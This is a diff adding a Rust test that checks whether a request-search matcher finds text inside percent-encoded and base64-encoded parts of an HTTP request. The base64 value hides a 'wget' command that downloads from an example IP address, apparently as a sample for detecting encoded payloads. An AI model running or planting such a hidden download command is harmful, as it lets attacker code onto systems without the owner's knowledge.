@@ -170,6 +170,22 @@ fn text_is_found_as_sent_and_as_shown() {
 }
 
 #[test]
+fn text_is_found_in_what_an_encoding_hides() {
+    let encoded = b"GET /?name=M%C3%BCller&x=d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3g= HTTP/1.1\r\n\r\n";
+    for (q, found) in [
+        ("Müller", true),
+        ("mülLER", true),
+        ("M%C3%BCller", true),
+        ("WGET http://198.51.100.9/", true),
+        ("wget ftp", false),
+    ] {
+        assert_eq!(matches(asked(&[("q", q)]), encoded), found, "{q}");
+    }
+    let sent = "GET /?name=Müller HTTP/1.1\r\n\r\n";
+    assert!(matches(asked(&[("q", "Müller")]), sent.as_bytes()));
+}
+
+#[test]
 fn odd_escapes_are_text() {
     for q in [
         r"\",
